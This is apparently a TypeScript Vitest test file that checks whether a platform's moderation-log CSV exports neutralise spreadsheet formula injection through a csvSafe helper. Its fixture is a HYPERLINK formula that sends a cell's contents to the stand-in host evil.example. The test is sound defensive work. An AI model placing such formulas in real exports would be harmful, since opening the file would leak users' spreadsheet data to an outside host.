// Finding: formula cells (=HYPERLINK(...)) reached the audit-log CSV and the package's moderation-log.csv.
// Every CSV we write goes through one helper (server/exports/formats/csv-safe.ts).
import { vi } from "vitest";
vi.setConfig({ testTimeout: 240_000, hookTimeout: 300_000 });
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "../support/server.ts";
import { buildWorld, type World } from "../support/world.ts";
import { download, downloadByPost, zipEntries } from "../exports/support.ts";
import { csvSafe } from "../../server/exports/formats/csv-safe.ts";

let t: TestServer;
let w: World;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
beforeAll(async () => {
  t = await startTestServer();
  w = await buildWorld(t);
  const reply = await w.clients.participant.post(`/api/threads/${w.threadId}/posts`, { body: "A reply to be hidden." });
  expect(reply.status).toBe(201);
  const hide = await w.clients.organiser.post(`/api/posts/${reply.body.post.id}/moderation`, { action: "hide", reasonCode: "off_topic", statement: FORMULA });
  expect(hide.status).toBe(200);
});
afterAll(async () => {
  await t.stop();
});

/** Every cell of an RFC 4180 CSV (quoted cells with doubled quotes), in order. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i < csv.length) {
    let cell = "";
    if (csv[i] === '"') {
      i++;
      for (;;) {
        const q = csv.indexOf('"', i);
        if (csv[q + 1] === '"') { cell += csv.slice(i, q + 1); i = q + 2; continue; }
        cell += csv.slice(i, q);
        i = q + 1;
        break;
      }
    } else {
      const end = csv.slice(i).search(/[,\n]/);
      cell = end === -1 ? csv.slice(i) : csv.slice(i, i + end);
      i += cell.length;
    }
    out.push(cell);
    if (csv[i] === "\r") i++;
    i++; // the comma or newline
  }
  return out;
}

/** The cells that hold the statement, and whether any cell of the file would run as a formula. */
function inspect(csv: string) {
  const all = cells(csv);
  return { withStatement: all.filter((c) => c.includes("HYPERLINK")), live: all.filter((c) => /^\s*[=+\-@]/.test(c)) };
}

describe("formula cells", () => {
  it("the helper neutralises every formula start and leaves other values alone", () => {
    for (const v of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1", "＝1"]) expect(csvSafe(v)).toBe(`'${v}`);
    for (const v of ["plain", "a=b", "", 42, null]) expect(csvSafe(v)).toBe(v);
  });

  it("do not reach the audit-log CSV", async () => {
    const res = await download(w.clients.organiser, `/api/consultations/${w.consultation.id}/moderation/log?format=csv`);
    expect(res.status).toBe(200);
    const { withStatement, live } = inspect(res.text);
    expect(withStatement).toContain(`'${FORMULA}`); // positive control: the statement is there, neutralised
    expect(live).toEqual([]);
  });

  it("do not reach the package's moderation-log.csv", async () => {
    const res = await downloadByPost(w.clients.organiser, `/api/consultations/${w.consultation.id}/exports/package.zip?scope=staff`);
    expect(res.status).toBe(200);
    const log = (await zipEntries(res.bytes)).get("moderation-log.csv");
    expect(log).toBeDefined();
    const { withStatement, live } = inspect(log!.toString("utf8"));
    expect(withStatement).toContain(`'${FORMULA}`);
    expect(live).toEqual([]);
  });
});
